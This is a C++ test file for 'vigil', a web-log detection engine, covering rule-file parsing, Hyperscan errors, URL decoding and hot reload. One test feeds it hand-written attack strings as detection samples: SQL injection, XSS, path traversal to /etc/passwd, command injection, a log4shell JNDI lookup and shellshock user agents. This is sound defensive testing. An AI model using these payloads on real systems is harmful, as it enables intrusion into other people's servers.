// The rule engine: rule files, Hyperscan compilation errors, normalisation, reload.
#include <gtest/gtest.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <random>
#include <thread>

#include "parse/line_parser.hpp"
#include "rules/analyze.hpp"
#include "rules/normalize.hpp"
#include "rules/rule_engine.hpp"

namespace vigil {
namespace {

std::string temp_file(const std::string& name, const std::string& text) {
  const auto path = std::filesystem::temp_directory_path() / ("vigil_rules_" + std::to_string(::getpid()) + "_" + name);
  std::ofstream(path) << text;
  return path.string();
}

std::vector<std::string> hit_ids(rule_matcher& matcher, std::string_view line) {
  line_parser parser;
  log_record r;
  analysis a;
  EXPECT_TRUE(parser.parse(line, r)) << line;
  analyze(r, matcher, a);
  std::vector<std::string> ids;
  for (auto h : a.hits) ids.push_back(matcher.rules().rules()[h].id);
  return ids;
}

std::string line_for(std::string_view target, std::string_view agent = "Mozilla/5.0") {
  return "10.0.0.1 - - [01/Jan/2026:00:00:00 +0000] \"GET " + std::string(target) + " HTTP/1.1\" 200 1 \"-\" \"" +
         std::string(agent) + "\"";
}

constexpr const char* two_rules = R"(
rules:
  - id: t-one
    category: test
    severity: low
    field: target
    pattern: 'alpha'
  - id: t-two
    category: test
    severity: high
    field: user_agent
    pattern: 'beta\d+'
)";

TEST(VigilRules, DefaultRuleSetCompilesAndCoversEveryCategory) {
  const auto set = rule_set::load(VIGIL_DEFAULT_RULES);
  EXPECT_GE(set->rules().size(), 30u);
  for (auto c : {"sqli", "xss", "traversal", "cmdi", "scanner", "sensitive_file", "log4shell", "shellshock", "protocol"})
    EXPECT_NE(std::find(set->categories().begin(), set->categories().end(), c), set->categories().end()) << c;
}

TEST(VigilRules, MatchesPerFieldAndReportsSeverity) {
  rule_matcher matcher(rule_set::compile(parse_rules_yaml(two_rules, "inline")));
  EXPECT_EQ(hit_ids(matcher, line_for("/ALPHA")), std::vector<std::string>{"t-one"});
  EXPECT_EQ(hit_ids(matcher, line_for("/", "beta7")), std::vector<std::string>{"t-two"});
  EXPECT_TRUE(hit_ids(matcher, line_for("/beta7", "alpha")).empty()) << "fields must not leak into each other";
}

TEST(VigilRules, InvalidPatternNamesTheRuleAndHyperscansError) {
  const std::string yaml = std::string(two_rules) + R"(
  - id: broken-paren
    category: test
    severity: low
    field: target
    pattern: 'union(select'
)";
  try {
    rule_set::compile(parse_rules_yaml(yaml, "bad.yaml"), "bad.yaml");
    FAIL() << "an invalid pattern must not compile";
  } catch (const rule_error& e) {
    const std::string what = e.what();
    EXPECT_NE(what.find("bad.yaml"), std::string::npos) << what;
    EXPECT_NE(what.find("broken-paren"), std::string::npos) << what;
    EXPECT_NE(what.find("Hyperscan"), std::string::npos) << what;
    EXPECT_NE(what.find("paren"), std::string::npos) << what;  // Hyperscan's own message
  }
}

TEST(VigilRules, CheckingAFileWithoutCompilingItFindsTheSameErrors) {
  const auto good = temp_file("checked.yaml", two_rules);
  EXPECT_NO_THROW(rule_set::check(good));
  const auto bad = temp_file("bad.yaml", std::string(two_rules) + R"(
  - id: broken-paren
    category: test
    severity: low
    field: target
    pattern: 'union(select'
)");
  try {
    rule_set::check(bad);
    FAIL() << "an invalid pattern must not pass the check";
  } catch (const rule_error& e) {
    const std::string what = e.what();
    EXPECT_NE(what.find(bad), std::string::npos) << what;
    EXPECT_NE(what.find("broken-paren"), std::string::npos) << what;
    EXPECT_NE(what.find("paren"), std::string::npos) << what;
  }
  std::filesystem::remove(good);
  std::filesystem::remove(bad);
}

TEST(VigilRules, InvalidRuleFilesAreRejectedWithTheCause) {
  auto expect_error = [](const std::string& yaml, const std::string& needle) {
    try {
      parse_rules_yaml(yaml, "x.yaml");
      ADD_FAILURE() << "accepted: " << yaml;
    } catch (const rule_error& e) {
      EXPECT_NE(std::string(e.what()).find(needle), std::string::npos) << e.what();
    }
  };
  expect_error("rules: [", "not valid YAML");
  expect_error("other: 1", "rules:");
  expect_error("rules:\n  - {id: a, category: c, severity: low, field: target}", "'a': missing 'pattern'");
  expect_error("rules:\n  - {id: a, category: c, severity: extreme, field: target, pattern: x}", "severity 'extreme'");
  expect_error("rules:\n  - {id: a, category: c, severity: low, field: cookie, pattern: x}", "field 'cookie'");
  expect_error("rules:\n  - {id: a, category: c, severity: low, field: target, pattern: x}\n"
               "  - {id: a, category: c, severity: low, field: target, pattern: y}",
               "duplicate id");
  expect_error("rules:\n  - {id: 'a b', category: c, severity: low, field: target, pattern: x}", "id must be");
  EXPECT_THROW(load_rules_file("/nonexistent/vigil.yaml"), rule_error);
}

TEST(VigilRules, NormalisationUndoesNginxEscapesAndRepeatedEncoding) {
  std::string out, scratch;
  EXPECT_EQ(normalize_target("/a?x=%253Cscript%253E", out, scratch), 2);
  EXPECT_EQ(out, "/a?x=<script>");
  EXPECT_EQ(normalize_target(R"(/?q=\x22a\x22+b)", out, scratch), 1);
  EXPECT_EQ(out, "/?q=\"a\" b");
  EXPECT_EQ(normalize_target("/a+b/c", out, scratch), 0) << "'+' is a space only in the query";
  EXPECT_EQ(out, "/a+b/c");
  EXPECT_EQ(normalize_target("/?q=%u003Cscript%U003E%u00e9", out, scratch), 1);  // IIS-style
  EXPECT_EQ(out, "/?q=<script>\xc3\xa9");
  EXPECT_EQ(normalize_target("/%u12", out, scratch), 0);
  EXPECT_EQ(normalize_target("/%zz%4", out, scratch), 0);
  EXPECT_EQ(out, "/%zz%4");
  // Depth is bounded: a target encoded 10 times is decoded max_decode_depth times.
  std::string deep = "<";
  for (int i = 0; i < 10; ++i) {
    std::string next;
    for (char c : deep) next += c == '%' ? std::string("%25") : c == '<' ? std::string("%3C") : std::string(1, c);
    deep = next;
  }
  EXPECT_EQ(normalize_target("/?" + deep, out, scratch), max_decode_depth);
}

TEST(VigilRules, DefaultRulesOnHandWrittenAttacksAndBenignLookalikes) {
  // Written from public cheat sheets and real logs, independently of the generator.
  rule_matcher matcher(rule_set::load(VIGIL_DEFAULT_RULES));
  const std::vector<std::pair<std::string, std::string>> attacks{
      {"/item?id=1%27%20AND%201=1%20UNION%20ALL%20SELECT%201,NULL,%27%3Cscript%3E%27--", "sqli"},
      {"/login?user=admin%27%20or%20%271%27%3D%271", "sqli"},
      {"/p?id=1);WAITFOR%20DELAY%20%270:0:5%27--", "sqli"},
      {"/p?id=-1+union+select+1,2,3,4--+-", "sqli"},
      {"/?s=%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E", "xss"},
      {"/comment?text=%3CIMG%20SRC%3Djavascript:alert(%27XSS%27)%3E", "xss"},
      {"/download?file=..%252f..%252f..%252fetc%252fpasswd", "traversal"},
      {"/index.php?page=php://input", "traversal"},
      {"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "traversal"},
      {"/ping?host=8.8.8.8%3Bcat%20/tmp/x", "cmdi"},
      {"/ping?host=%60id%60", "cmdi"},
      {"/.git/config", "sensitive_file"},
      {"/.env", "sensitive_file"},
      {"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fexample.com%2Fa%7D", "log4shell"},
  };
  for (const auto& [target, category] : attacks) {
    line_parser parser;
    log_record r;
    analysis a;
    const auto line = line_for(target);
    ASSERT_TRUE(parser.parse(line, r));
    analyze(r, matcher, a);
    bool found = false;
    for (auto h : a.hits) found |= matcher.rules().rules()[h].category == category;
    EXPECT_TRUE(found) << category << " not detected in " << target;
  }
  EXPECT_FALSE(hit_ids(matcher, line_for("/", "sqlmap/1.7.2#stable (https://sqlmap.org)")).empty());
  EXPECT_FALSE(hit_ids(matcher, line_for("/cgi-bin/x", "() { :; }; echo; /bin/id")).empty());
  // Other protocols and proxy probes, on the raw request line and the method fields.
  EXPECT_EQ(hit_ids(matcher, R"(1.2.3.4 - - [01/Jan/2026:00:00:00 +0000] "\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03" 400 157 "-" "-")"),
            std::vector<std::string>{"protocol-foreign-handshake"});
  EXPECT_EQ(hit_ids(matcher, R"(1.2.3.4 - - [01/Jan/2026:00:00:00 +0000] "TRACE / HTTP/1.1" 405 0 "-" "-")"),
            std::vector<std::string>{"protocol-debug-method"});
  EXPECT_EQ(hit_ids(matcher, R"(1.2.3.4 - - [01/Jan/2026:00:00:00 +0000] "CONNECT example.net:443 HTTP/1.1" 400 0 "-" "-")"),
            std::vector<std::string>{"protocol-proxy-probe"});
  EXPECT_TRUE(hit_ids(matcher, R"(1.2.3.4 - - [01/Jan/2026:00:00:00 +0000] "GET /trace HTTP/1.1" 200 0 "-" "-")").empty());
  const std::vector<std::string> benign{
      "/search?q=rock+%26+roll",        "/search?q=o%27brien",           "/search?q=select+a+gift",
      "/search?q=union+station",        "/blog/2025/drop-shipping-101", "/api/v1/items?fields=id,name&sort=-price",
      "/static/js/app.min.js?v=1.2.3",  "/search?q=100%25+cotton",       "/products/c%2B%2B-book",
      "/login?next=%2Faccount%3Ftab%3Dorders", "/search?q=%22exact+phrase%22", "/search?q=cat+%7C+dog",
      "/wp-content/uploads/2025/01/photo-1.jpg", "/search?q=sleep+well",   "/page?id=42&and=1",
  };
  for (const auto& target : benign) EXPECT_TRUE(hit_ids(matcher, line_for(target)).empty()) << target;
}

TEST(VigilRules, ReloadSwapsAtomicallyAndABadSetKeepsTheOldOne) {
  const auto good = temp_file("good.yaml", two_rules);
  rule_engine engine(good);
  EXPECT_EQ(engine.current()->rules().size(), 2u);
  const auto generation = engine.generation();

  const auto bad = temp_file("bad.yaml", std::string(two_rules) + R"(
  - id: bad-one
    category: test
    severity: low
    field: target
    pattern: '(((['
)");
  const auto failed = engine.reload(bad);
  EXPECT_FALSE(failed.ok);
  EXPECT_NE(failed.error.find("bad-one"), std::string::npos) << failed.error;
  EXPECT_NE(failed.error.find("previous rule set stays"), std::string::npos) << failed.error;
  EXPECT_EQ(engine.generation(), generation);
  EXPECT_EQ(engine.current()->rules().size(), 2u);

  // A matcher following the engine keeps working through the failed reload, then picks up a good one.
  engine_matcher follower(engine);
  EXPECT_FALSE(follower.refresh());
  EXPECT_EQ(hit_ids(follower.matcher(), line_for("/alpha")), std::vector<std::string>{"t-one"});
  const auto next = temp_file("next.yaml", R"(
rules:
  - {id: n-one, category: test, severity: medium, field: target, pattern: 'gamma'}
)");
  const auto ok = engine.reload(next);
  ASSERT_TRUE(ok.ok) << ok.error;
  EXPECT_EQ(ok.rules, 1u);
  EXPECT_GT(engine.generation(), generation);
  EXPECT_TRUE(follower.refresh());
  EXPECT_TRUE(hit_ids(follower.matcher(), line_for("/alpha")).empty());
  EXPECT_EQ(hit_ids(follower.matcher(), line_for("/gamma")), std::vector<std::string>{"n-one"});
  // reload() without a path re-reads the file that last loaded.
  EXPECT_TRUE(engine.reload().ok);
  std::filesystem::remove(good);
  std::filesystem::remove(bad);
  std::filesystem::remove(next);
}

TEST(VigilRules, ConcurrentReadersSeeOneCompleteSetDuringReloads) {
  const auto a = temp_file("a.yaml", two_rules);
  const auto b = temp_file("b.yaml", R"(
rules:
  - {id: b-one, category: test, severity: low, field: target, pattern: 'alpha'}
  - {id: b-two, category: test, severity: low, field: target, pattern: 'delta'}
  - {id: b-three, category: test, severity: low, field: target, pattern: 'epsilon'}
)");
  rule_engine engine(a);
  std::atomic<bool> stop{false};
  std::atomic<std::uint64_t> checked{0};
  std::thread reader([&] {
    engine_matcher follower(engine);
    line_parser parser;
    log_record r;
    analysis result;
    const auto line = line_for("/alpha/delta/epsilon");
    ASSERT_TRUE(parser.parse(line, r));
    while (!stop.load()) {
      follower.refresh();
      analyze(r, follower.matcher(), result);
      const auto size = follower.matcher().rules().rules().size();
      // Set a (2 rules) hits 1; set b (3 rules) hits 3: never a mixture.
      ASSERT_EQ(result.hits.size(), size == 2 ? 1u : 3u);
      ++checked;
    }
  });
  for (int i = 0; i < 20; ++i) ASSERT_TRUE(engine.reload(i % 2 ? a : b).ok);
  while (checked.load() < 100) std::this_thread::yield();
  stop = true;
  reader.join();
  std::filesystem::remove(a);
  std::filesystem::remove(b);
}

}  // namespace
}  // namespace vigil

namespace vigil {
namespace {

TEST(VigilRules, NormalisationOfRandomEscapesNeverCrashesAndIsBounded) {
  std::mt19937 rng(3);
  const std::string alphabet = "%uU25xX\\+?0123456789abcdefABCDEF/.<>'";
  std::string in, out, scratch;
  for (int i = 0; i < 20000; ++i) {
    in.clear();
    const auto length = rng() % 64;
    for (unsigned k = 0; k < length; ++k) in += alphabet[rng() % alphabet.size()];
    const int depth = normalize_target(in, out, scratch);
    ASSERT_GE(depth, 0);
    ASSERT_LE(depth, max_decode_depth);
    ASSERT_LE(out.size(), in.size() * 3 / 2 + 1) << in;  // decoding never grows the text much (%uXXXX -> <= 3 bytes)
  }
}

// `fallback` rules repeat what CRS catches: they match only while CRS is not in force.
TEST(VigilRules, FallbackRulesMatchOnlyWithoutCrs) {
  const auto set = rule_set::load(VIGIL_DEFAULT_RULES);
  std::size_t fallback = 0;
  for (const auto& r : set->rules()) fallback += r.fallback;
  EXPECT_EQ(fallback, 6u);
  const rule_engine engine(set);
  engine_matcher matcher(engine);
  const std::string line =
      "203.0.113.9 - - [28/Nov/2026:12:00:00 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 10 \"-\" "
      "\"() { :; }; /bin/bash -c 'id'\"";
  EXPECT_EQ(hit_ids(matcher.matcher(), line), std::vector<std::string>{"shellshock-user-agent"});
  matcher.set_crs_in_force(true);
  EXPECT_TRUE(hit_ids(matcher.matcher(), line).empty());
  matcher.set_crs_in_force(false);
  EXPECT_EQ(hit_ids(matcher.matcher(), line), std::vector<std::string>{"shellshock-user-agent"});
}

}  // namespace
}  // namespace vigil
